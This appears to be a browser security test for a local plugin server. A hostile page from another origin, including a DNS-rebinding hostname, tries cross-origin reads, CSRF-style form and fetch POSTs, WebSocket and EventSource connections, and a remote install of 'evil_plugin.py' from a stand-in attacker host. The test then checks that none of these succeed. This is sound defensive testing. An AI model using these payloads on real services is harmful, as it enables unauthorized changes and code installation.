"""A page of another origin, in a real browser with a user who has the server running: it can do nothing there."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio
from aiohttp import web
from aiohttp.test_utils import TestServer
from playwright.async_api import BrowserContext, Route, async_playwright

from tests.browser.conftest import CHROMIUM, CHROMIUM_ARGUMENTS, Server

# One browser serves all tests, so they share its event loop.
pytestmark = pytest.mark.asyncio(loop_scope="session")

REBOUND = "rebound.example"

# What a page can try. Each attempt gives what the page could read of it; null is nothing.
ATTEMPTS = """async ([server, evil]) => {
  const until = (made) => Promise.race([made, new Promise((done) => setTimeout(done, 3000, null))]);
  const textOf = (frame) => frame.contentDocument.body.textContent.slice(0, 40);
  const asked = async (path, init) => {
    try {
      const response = await fetch(server + path, init);
      return response.type === 'opaque' || !response.ok ? null : (await response.text()).slice(0, 40) || 'ok';
    } catch { return null; }
  };
  const remove = JSON.stringify({ plugin_type: 'search', plugin_name: 'demo' });
  const install = JSON.stringify({ url: evil + '/evil_plugin.py', plugin_type: 'search' });
  const json = { 'Content-Type': 'application/json' };
  const plain = { 'Content-Type': 'text/plain' };
  const post = (path, body, headers, mode = "cors") =>
    asked(path, { method: "POST", body, headers, mode, credentials: "include" });
  const form = (path, fields, enctype) => until(new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.name = 'f' + Math.random();
    document.body.append(frame);
    const made = document.createElement('form');
    Object.assign(made, { method: 'post', action: server + path, enctype, target: frame.name });
    for (const [name, value] of Object.entries(fields)) {
      const field = document.createElement('input');
      Object.assign(field, { name, value });
      made.append(field);
    }
    document.body.append(made);
    frame.onload = () => {
      try {
        // It loads an empty page first. Of another origin nothing can be read.
        if (frame.contentWindow.location.href !== 'about:blank') done(textOf(frame));
      } catch { done(null); }
    };
    made.submit();
  }));
  const file = new File(["x = 1"], 'evil_plugin.py');
  const upload = new FormData();
  upload.append('plugin_type', 'search');
  upload.append('file', file);
  return {
    read: await asked('/api/plugins', { credentials: 'include' }),
    read_opaque: await asked('/api/plugins', { mode: 'no-cors' }),
    export: await asked('/api/config/export'),
    remove: await post('/api/plugins/delete', remove, json),
    remove_plain: await post('/api/plugins/delete', remove, plain),
    remove_opaque: await post('/api/plugins/delete', remove, plain, 'no-cors'),
    install: await post('/api/plugins/install', install, json),
    install_opaque: await post('/api/plugins/install', install, plain, 'no-cors'),
    upload: await post('/api/plugins/install', upload),
    upload_opaque: await post('/api/plugins/install', upload, undefined, 'no-cors'),
    beacon: navigator.sendBeacon(server + '/api/plugins/delete', remove) && null,
    configure: await asked('/api/plugins/search/demo/config', { method: 'PUT', body: '{}', headers: json }),
    rotate: await post('/api/token/rotate', ''),
    sign_in: await post('/', new URLSearchParams({ token: 'x' })),
    form: await form('/api/plugins/search/demo/toggle?enabled=false', { a: 'b' }, 'application/x-www-form-urlencoded'),
    form_parts: await form('/api/plugins/install', { plugin_type: 'search', file: 'x = 1' }, 'multipart/form-data'),
    form_plain: await form(
      '/api/plugins/delete',
      { '{"plugin_type":"search","plugin_name":"demo","x":"': '"}' },
      'text/plain',
    ),
    socket: await until(new Promise((done) => {
      const socket = new WebSocket(server.replace('http', 'ws') + '/api/ws');
      socket.onopen = () => done('open');
      socket.onerror = () => done(null);
    })),
    events: await until(new Promise((done) => {
      const events = new EventSource(server + '/api/events', { withCredentials: true });
      events.onopen = () => done('open');
      events.onerror = () => done(null);
    })),
    script: await until(new Promise((done) => {
      const script = document.createElement('script');
      script.src = server + '/api/search/demo?keyword=by-a-script';
      script.onload = () => done('loaded');
      script.onerror = () => done(null);
      document.head.append(script);
    })),
    frame: await until(new Promise((done) => {
      const frame = document.createElement('iframe');
      frame.src = server + '/api/search/demo?keyword=by-a-frame';
      frame.onload = () => { try { done(textOf(frame) || null); } catch { done(null); } };
      document.body.append(frame);
    })),
  };
}"""


class Evil:
    """Another origin, and what was asked of it."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        app = web.Application()
        app.router.add_get("/{path:.*}", self._answer)
        self.server = TestServer(app, host="127.0.0.1")

    async def _answer(self, request: web.Request) -> web.Response:
        self.asked.append(request.path)
        return web.Response(text="<!doctype html><title>evil</title><body>", content_type="text/html")


@pytest_asyncio.fixture(loop_scope="session")
async def evil() -> AsyncIterator[Evil]:
    evil = Evil()
    await evil.server.start_server()
    yield evil
    await evil.server.close()


@pytest_asyncio.fixture(loop_scope="session")
async def context() -> AsyncIterator[BrowserContext]:
    async with async_playwright() as playwright:
        rules = f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1"
        browser = await playwright.chromium.launch(
            executable_path=CHROMIUM, args=[*CHROMIUM_ARGUMENTS, rules]
        )
        yield await browser.new_context()
        await browser.close()


async def state(server: Server) -> Any:
    plugins = await server.get("/api/plugins")
    stats = (await server.get("/api/stats"))["plugins"]
    return plugins["search"], plugins["seq"], (await server.get("/api/changes"))["changes"], stats


async def test_it_can_do_nothing(shared_server: Server, evil: Evil, context: BrowserContext) -> None:
    server = shared_server
    elsewhere = f"http://localhost:{evil.server.port}"
    before = await state(server)
    page = await context.new_page()
    for address, target in (
        # Another site, another port of this host, and a name that was made to lead here since the page was loaded.
        (f"{elsewhere}/", server.url),
        (f"http://127.0.0.1:{evil.server.port}/", server.url),
        (f"http://{REBOUND}:{server.port}/attack", f"http://{REBOUND}:{server.port}"),
        (f"http://{REBOUND}:{server.port}/attack", server.url),
    ):

        async def fulfil(route: Route) -> None:
            await route.fulfill(body="<!doctype html><title>evil</title><body>", content_type="text/html")

        await page.route(f"http://{REBOUND}:*/attack", fulfil)
        await page.goto(address)
        told = await page.evaluate(ATTEMPTS, [target, elsewhere])
        assert len(told) > 15
        # Of a rebound name, the page may read the refusals in its own frames, which say nothing but that.
        read = {name: text for name, text in told.items() if text is not None and "Host" not in text}
        assert read == {}, address
    assert await state(server) == before
    assert "/evil_plugin.py" not in evil.asked
    assert "by-a-script" not in server.log()


async def test_the_server_s_own_page_can(own_server: Server, evil: Evil, context: BrowserContext) -> None:
    """Else the attempts above would show nothing."""
    page = await context.new_page()
    await page.goto(own_server.url)
    told = await page.evaluate(ATTEMPTS, [own_server.url, f"http://localhost:{evil.server.port}"])
    done = {name for name, text in told.items() if text is not None}
    assert {"read", "export", "remove", "socket", "events"} <= done
    assert "/evil_plugin.py" in evil.asked
    gone = await own_server.get("/api/plugins")
    assert "search/demo" not in {one["id"] for one in gone["search"]}
